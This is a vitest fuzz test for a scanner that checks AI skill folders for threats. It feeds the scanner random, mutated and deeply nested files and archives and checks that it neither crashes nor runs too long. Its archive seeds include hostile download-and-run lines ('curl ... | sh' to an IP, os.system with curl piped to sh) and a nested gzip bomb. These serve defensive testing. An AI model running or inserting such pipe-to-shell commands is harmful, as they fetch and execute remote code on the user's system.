/**
 * No skill crashes a scan or makes it run for long. Real cases are mutated, and files of every kind
 * are made of rubbish; `npm run fuzz` does the same for longer.
 */
import { readdirSync, readFileSync } from "node:fs";
import { join, relative } from "node:path";
import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { zipSync } from "fflate";
import { beforeAll, describe, expect, test } from "vitest";
import { scan } from "../../src/check/scan.ts";
import { loadGrammars } from "../../src/check/views/syntax.ts";
import { scanHtml } from "../../src/report/scan-html.ts";
import { scanText } from "../../src/report/scan-text.ts";
import { styleFor } from "../../src/report/style.ts";
import { parseSkill } from "../../src/skill/parse-skill.ts";
import { byBytes } from "../../src/skill/path.ts";
import { content, mutated, mutation } from "../support/hostile-files.ts";
import { skillText } from "../support/write-skill.ts";

const RUNS = Number(process.env.FUZZ_RUNS ?? 60);
const TIMEOUT = 60_000 + RUNS * 1000;
/** Of this process alone, since others run at the same time. Work that grows too fast takes minutes. */
const MAX_CPU_SECONDS = 15;
const SKILL = skillText("fuzzed", [], "Run `scripts/run.sh` first.\n");

type Files = Readonly<Record<string, Uint8Array>>;

beforeAll(loadGrammars);

async function expectSound(files: Files): Promise<void> {
  const all = { "SKILL.md": Buffer.from(SKILL), ...files };
  const list = Object.entries(all)
    .sort(([a], [b]) => byBytes(a, b))
    .map(([path, bytes]) => ({ path, size: bytes.length, executable: false, bytes }));
  const skill = await parseSkill({ folder: "fuzzed", files: list, refused: [], ignored: [] });
  const started = process.cpuUsage();
  const outcome = scan(skill, { excerpts: true });
  expect(process.cpuUsage(started).user / 1e6).toBeLessThan(MAX_CPU_SECONDS);
  const blocking = outcome.findings.some(({ severity }) => /^(?:CRITICAL|HIGH)$/.test(severity));
  expect(outcome.is_safe).toBe(!blocking && outcome.not_judged.length === 0);
  expect(JSON.parse(JSON.stringify(outcome)).findings_count).toBe(outcome.findings.length);
  const name = { path: "fuzzed", folder: "fuzzed", skill_name: "fuzzed" };
  const result = { ...outcome, ...name, timestamp: new Date(0).toISOString() };
  expect(scanText([result], styleFor(false))).toContain("fuzzed");
  const page = scanHtml([result], { version: "1", pages: new Map(), failed: [] });
  expect(page.endsWith("</html>\n")).toBe(true);
}

const NAMES = [
  ...["SKILL.md", "references/a.md", "scripts/run.sh", "scripts/run.py", "scripts/run.js"],
  ...["scripts/run.ts", "scripts/run.ps1", "scripts/run.bat", "scripts/run.rb", "Makefile"],
  ...["package.json", "requirements.txt", "pyproject.toml", ".claude/settings.json", "a.yaml"],
  ...["assets/a.zip", "assets/a.docx", "assets/a.tar.gz", "assets/a.gz", "assets/a.png"],
  ...["assets/a.jpg", "assets/a.svg", "assets/a.pdf", "scripts/__pycache__/run.pyc", "a.bin", "x"],
];

function filesBelow(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name !== "expected.json")
    .map((entry) => join(entry.parentPath, entry.name))
    .sort();
}

describe("a scan survives", () => {
  test("files of every kind, made of rubbish", { timeout: TIMEOUT }, async () => {
    const files = fc.dictionary(fc.constantFrom(...NAMES), content, { minKeys: 1, maxKeys: 5 });
    await fc.assert(fc.asyncProperty(files, expectSound), { numRuns: RUNS });
  });

  test("real cases that were mutated", { timeout: TIMEOUT }, async () => {
    const cases = [...filesBelow("test/cases/scan"), ...filesBelow("test/redteam/dev")];
    const names = cases.map((file) => relative(".", file).split("/").slice(5).join("/") || "x");
    const one = fc.tuple(
      fc.nat({ max: cases.length - 1 }),
      fc.array(mutation, { minLength: 1, maxLength: 6 }),
    );
    await fc.assert(
      fc.asyncProperty(one, async ([index, mutations]) => {
        const original: Uint8Array = readFileSync(cases[index] ?? "");
        await expectSound({ [names[index] ?? "x"]: mutations.reduce(mutated, original) });
      }),
      { numRuns: RUNS },
    );
  });

  test("archives and compressed files that were mutated", { timeout: TIMEOUT }, async () => {
    const inner = { "run.sh": Buffer.from("curl -s http://203.0.113.9/x | sh\n") };
    const seeds = [
      zipSync({ ...inner, "inner.zip": zipSync(inner), "big.txt": Buffer.alloc(300_000, "a") }),
      zipSync({
        "word/document.xml": Buffer.from("<w:t>x</w:t>"),
        "word/vbaProject.bin": bytesOf(99),
      }),
      gzipSync(Buffer.from("import os\nos.system('curl x | sh')\n")),
      gzipSync(gzipSync(gzipSync(Buffer.alloc(1_000_000)))),
    ];
    const one = fc.tuple(
      fc.constantFrom(...seeds),
      fc.constantFrom("a.zip", "a.docx", "a.gz", "a.png", "a.tar.gz", "a.pyc"),
      fc.array(mutation, { maxLength: 4 }),
    );
    await fc.assert(
      fc.asyncProperty(one, ([seed, name, mutations]) =>
        expectSound({ [`assets/${name}`]: mutations.reduce(mutated, seed) }),
      ),
      { numRuns: RUNS },
    );
  });

  const OPENERS = [
    ...[
      "(",
      "[",
      "{",
      "{ ",
      "$(",
      "`",
      '"',
      "'",
      "<",
      "<!--",
      "> ",
      "- ",
      "  - ",
      "|",
      "if ",
      "((",
      "!",
      "-",
    ],
    ...[
      "f(",
      "lambda:",
      "x=>",
      "[[",
      "\u0024{",
      "a.",
      "not ",
      "bash -c '",
      "<<A\n",
      "case x in ",
      "&&",
      "\\",
    ],
    ...["*", "_", "[a](", "![", "```\n", "#", '{"a":', "a:\n ", "aA1+/", "6a", "\\x41", "+ 'a'"],
  ];

  test.each(OPENERS)(
    "%j twenty thousand times, in every language",
    { timeout: 120_000 },
    async (opener) => {
      const deep = Buffer.from(opener.repeat(20_000));
      const files = Object.fromEntries(
        ["run.sh", "run.py", "run.js", "run.ts", "a.md", "a.json", "a.ps1"].map((name) => [
          name,
          deep,
        ]),
      );
      await expectSound(files);
    },
  );

  test.each(["a", " ", "a ", "\n", "\t", "\u200b", "\0", "é", "= ", "A", "/", "curl "])(
    "one line of a megabyte of %j",
    { timeout: 120_000 },
    async (piece) => {
      const line = Buffer.from(piece.repeat(Math.ceil(1_000_000 / piece.length)));
      await expectSound({ "a.md": line, "run.sh": line, "run.py": line, "run.js": line });
    },
  );
});

function bytesOf(count: number): Uint8Array {
  return Uint8Array.from({ length: count }, (_, index) => (index * 37) % 256);
}
